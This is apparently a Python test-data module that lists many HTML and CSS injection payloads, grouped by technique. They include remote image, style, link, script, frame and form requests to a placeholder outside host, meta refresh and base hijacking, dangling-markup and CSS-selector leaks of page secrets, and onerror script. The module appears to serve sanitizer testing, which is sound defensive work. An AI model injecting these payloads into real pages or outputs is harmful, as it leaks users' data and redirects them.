"""Markup that asks another machine, tells it who reads, or leads the reader away."""

from __future__ import annotations

from itertools import product

_STYLES = ("background", "background-image", "list-style-image", "border-image-source", "content", "cursor", "mask-image", "-webkit-mask-image", "filter", "shape-outside", "clip-path")  # fmt: skip
_LINKS = (
    "stylesheet",
    "icon",
    "preload",
    "prefetch",
    "modulepreload",
    "manifest",
    "alternate stylesheet",
    "apple-touch-icon",
)

TECHNIQUES: dict[str, list[str]] = {
    "remote picture": ["<img src='«U»'>", "<IMG SRC=«U»>", "<image src='«U»'>", "<img src='//«U»'>".replace("//«U»", "«U»?a&amp;b"), '<img lowsrc=x src="«U»">', "<img src=' «U»'>", "<img src='&#104;ttp://x'src=x><img src='«U»#x'>", "<img loading=eager src='«U»'>"],
    "srcset": ["<img srcset='«U» 1x'>", "<img srcset='«U» 1w' sizes=1px>", "<picture><source srcset='«U»'><img></picture>", "<picture><source media='(min-width:1px)' srcset='«U»'><img alt=x></picture>"],
    "poster, film, sound": ["<video poster='«U»'></video>", "<video src='«U»' autoplay></video>", "<audio src='«U»' autoplay></audio>", "<video><source src='«U»'></video>", "<video preload=auto><track default src='«U»'></video><video src='«U»'></video>", "<audio preload=auto src='«U»'></audio>"],
    "background attribute": ["<body background='«U»'>", "<table background='«U»'><tr><td>x</table>", "<table><tr><td background='«U»'>x</table>", "<table><tr background='«U»'><td>x</table>", "<table><tbody background='«U»'><tr><td>x</table>"],
    "picture of the desk itself": ["<img src='«O»'>", '<img src="«O»?a=1&b=2">', "<img src='.«O»'>", "<img src='/..«O»'>", "<video poster='«O»'></video>", "<object data='«O»'></object>"],
    "style attribute": [f"<div style=\"{name}:url('«U»');display:list-item;border:1px solid;width:9px;height:9px\">x</div>" for name in _STYLES[:4]],
    "style attribute in disguise": ["<div style='background:\\75rl(«U»)'>x</div>", "<div style='background:u\\72 l(«U»)'>x</div>", "<div style='background:url(/**/«U»)'>x</div><div style='background:url( «U» )'>x</div>", "<div style='background:URL(«U»)'>x</div>", "<div style=\"background:image-set('«U»' 1x)\">x</div>", "<div style=\"background:-webkit-image-set(url('«U»') 1x)\">x</div>", "<div style='--x:url(«U»);background:var(--x)'>x</div>", "<div style='color:red;/*;*/background:url(«U»)'>x</div>", "<div style='background:url(&quot;«U»&quot;)'>x</div>", "<div style='background:linear-gradient(red,red),url(«U»)'>x</div>", "<div style='background:cross-fade(url(«U»),url(«U»),50%)'>x</div><div style='background:url(«U»)'>"],
    "style element": ["<style>body{background:url(«U»)}</style>", "<style>@import '«U»';</style>", "<style>@import url(«U»);</style>", "<style>@font-face{font-family:f;src:url(«U»)}*{font-family:f}</style>x", "<style>*{list-style:url(«U»)}</style><li>x", "<style>b:before{content:url(«U»)}</style><b>x</b>", "<style>*{cursor:url(«U»),auto;background:url(«U»)}</style>x", "<style media=all>@media screen{*{background:url(«U»)}}</style>x", "<style>@supports(color:red){*{background:url(«U»)}}</style>x", "<style>@layer x{*{background:url(«U»)}}</style>x", "<style>@container (width>0){*{background:url(«U»)}}*{background:url(«U»)}</style>x", "<style>*{&{background:url(«U»)}}</style>x", "<style>\\@import '«U»';*{background:url(«U»)}</style>"],
    "reading by style": ["<input value=secret><style>input[value^=s]{background:url(«U»)}</style>", "<style>a[href]{background:url(«U»)}</style><a href=x>x</a>", "<style>:has(p){background:url(«U»)}</style><p>x", "<style>html:not(.x){background:url(«U»)}</style>"],
    "link element": [f"<link rel='{rel}' href='«U»' as=image>" for rel in ("stylesheet", "preload", "prefetch", "icon stylesheet")],
    "link, other": ["<link rel=modulepreload href='«U»'>", '<link rel=stylesheet media=all href="«U»">', "<link rel=preload as=script href='«U»'>", "<link rel=preload as=style imagesrcset='«U»' href='«U»'>", "<link rel=preload as=image imagesrcset='«U» 1x'>", "<link rel=preload as=fetch href='«U»' crossorigin>"],
    "script from elsewhere": ["<script src='«U»'></script>", "<script src=«U» async></script>", "<script type=module src='«U»'></script>", "<svg><script href='«U»'></script></svg>"],
    "frame from elsewhere": ["<iframe src='«U»'></iframe>", "<iframe sandbox src='«U»'></iframe>", "<iframe srcdoc='<img src=«U»>'></iframe>", "<frameset><frame src='«U»'></frameset>", "<iframe loading=eager src='«U»' width=0 height=0></iframe>", "<iframe name=x></iframe><a target=x href='«O»'>x</a><iframe src='«U»'></iframe>"],
    "object from elsewhere": ["<object data='«U»'></object>", "<embed src='«U»'>", "<object type=text/html data='«U»'></object>", "<embed type=text/html src='«U»'>", "<object data='«U»'><img src='«U»'></object>"],
    "drawing from elsewhere": ["<svg><image href='«U»'/></svg>", "<svg><image xlink:href='«U»'/></svg>", "<svg><feImage href='«U»'/><filter id=f><feImage href='«U»'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>", "<svg><style>@import '«U»';</style></svg>", "<svg style='background:url(«U»)'></svg>", "<svg><foreignObject><img src='«U»'></foreignObject></svg>"],
    "use and xlink": ["<svg><use href='«O»#x'/></svg>", "<svg><use xlink:href='«O»#x'/></svg>", "<svg><image xlink:href='«O»'/></svg>"],
    "refresh": ["<meta http-equiv=refresh content='0;url=«U»'>", "<META HTTP-EQUIV=Refresh CONTENT='0; URL=«U»'>", "<meta http-equiv=refresh content='0;«U»'>", "<meta content='0 url=«U»' http-equiv=refresh>", "<p><meta http-equiv='refresh' content='0,url=«U»'></p>", "<meta http-equiv=&#114;efresh content=0;url=«U»>"],
    "base": ["<base href='«U»/'><img src=x>", "<base href='«U»/'><link rel=stylesheet href=x>", "<base href='«U»/'><a href=x>press</a>", "<base target=_self href='«U»/'><form><button formaction=x>x</button></form>"],
    "form": ["<form action='«U»'><input type=submit></form>", "<form action='«U»' method=post><button>x</button></form>", "<form action='«O»' method=post><button>x</button></form>", "<form><button formaction='«U»'>x</button></form>", "<form id=x></form><button form=x formaction='«U»'>x</button>", "<form action='«O»'><input type=image src=x></form>", "<form><input type=submit formaction='«U»' formmethod=post></form>", "<form action='«U»' enctype=text/plain method=post><input name=x value=y><input type=submit></form>"],
    "ping": ["<a href='#x' ping='«U»'>press</a>", "<a ping='«O» «U»' href=#>press</a>", "<map name=m><area shape=default href=#x ping='«U»'></map><img usemap=#m src=x>"],
    "link to the desk itself": ["<a href='«O»'>press</a>", "<a href='.«O»'>press</a>", "<a href='?next=«O»'></a><a href='/x/..«O»'>press</a>", "<a href='\\«O»'>press</a><a href='«O»'>press</a>", "<a href='\t«O»'>press</a>", "<map name=m><area shape=default href='«O»'></map><img usemap=#m src=x>", "<svg><a href='«O»'><text y=9>x</text></a></svg>"],
    "dangling markup": ["<img src='«U»?<p>secret</p>'>x", '<img src="«U»?<p>secret</p>">', "<style>@import '«U»?<p>secret</p>'>x", "<form action='«U»'><button>x</button><textarea name=x><p>secret</p>'>x", "<form action='«U»'><button>x</button><select><option>", "<meta http-equiv=refresh content='0;url=«U»?<p>secret</p>'>x", "<iframe src='«U»?<p>secret</p>'>x", "<link rel=stylesheet href='«U»?<p>secret</p>'>x", "<table background='«U»?<p>secret</p>'>x"],
    "nesting": ["<div>" * 90 + "<img src='«U»'>", "<b>" * 60 + "<img src=x onerror=«J»>", "<table><tr><td>" * 30 + "<img src=x onerror=«J»>", "<svg>" * 40 + "<script>«J»</script>", "<font>" * 300 + "<img src='«U»'>", "<blockquote>" * 200 + "<script>«J»</script>"],
    "view transition": ["<style>@view-transition{navigation:auto}html{background:url(«U»)}::view-transition{background:url(«U»)}</style>"],
    "speculation": ['<script type=speculationrules>{"prefetch":[{"source":"list","urls":["«O»"]}]}</script>'],
}  # fmt: skip
TECHNIQUES["style attribute"] += [
    f"<div style='{name}:{value}'>x</div>"
    for name, value in product(("background", "background-image"), ("url(«U»)", "url(«O»)"))
]
